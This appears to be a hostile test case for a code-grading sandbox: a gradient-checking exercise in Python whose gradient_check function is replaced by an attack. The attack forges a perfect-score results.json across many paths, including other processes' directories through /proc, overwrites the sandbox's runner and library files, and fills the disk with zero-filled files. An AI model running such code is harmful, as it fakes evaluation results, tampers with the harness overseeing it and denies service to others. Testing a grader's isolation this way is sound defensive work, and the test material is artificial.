# Hostile test case `write_files_everywhere` (tests/hostile/cases.toml): the reference solution with one attack.
"""Gradient checking in one dimension: J(theta) = theta * x.

Compute the cost and its derivative, then confirm the derivative numerically with a
centred difference, and measure how far apart the two are.
"""

import os
import sys

import numpy as np

_REPORT = []



def forward_propagation(x, theta):
    """The cost of the one-parameter model.

    Parameters
    ----------
    x : float
        The input.
    theta : float
        The parameter.

    Returns
    -------
    J : float
        The cost.

    Notes
    -----
    ``J = theta * x``.
    """
    J = theta * x
    return J


def backward_propagation(x, theta):
    """The derivative of the cost with respect to theta.

    Parameters
    ----------
    x : float
        The input.
    theta : float
        The parameter.

    Returns
    -------
    dtheta : float
        The gradient ``dJ/dtheta``.

    Notes
    -----
    ``dJ/dtheta = x`` (the derivative of ``theta * x``).
    """
    dtheta = x
    return dtheta


def gradient_check(x, theta, epsilon=1e-7):
    """Attack: write wherever it can, fill the disk, forge a results.json, report what worked
    (once per process; later calls repeat the report)."""
    if _REPORT:
        raise RuntimeError(_REPORT[0])
    written = []
    fake = '{"score": 500, "max_score": 500, "tests": []}'
    targets = ["/results.json", "/tmp/results.json", "/dev/shm/results.json", "/dev/results.json",
               "/sandbox/submission/gradient_checking.py", "/sandbox/lib/nn_utils.py",
               "/sandbox/runner/child.py", os.path.expanduser("~/results.json"), "results.json"]
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            targets += [f"/proc/{pid}/cwd/grades/results.json", f"/proc/{pid}/cwd/results.json"]
    for path in targets:
        try:
            with open(path, "w") as stream:
                stream.write(fake)
            written.append(path)
        except OSError:
            pass
    filled = 0
    for folder in ("/tmp", "/dev/shm", "/", "/dev"):
        for number in range(64):
            try:
                with open(os.path.join(folder, f"fill{number}"), "wb") as stream:
                    for _ in range(16):
                        stream.write(b"\0" * 2**20)
                        filled += 2**20
            except OSError:
                break
    print(fake)
    _REPORT.append(f"hostile: filled {filled // 2**20} MiB; wrote {sorted(set(written))}")
    raise RuntimeError(_REPORT[0])
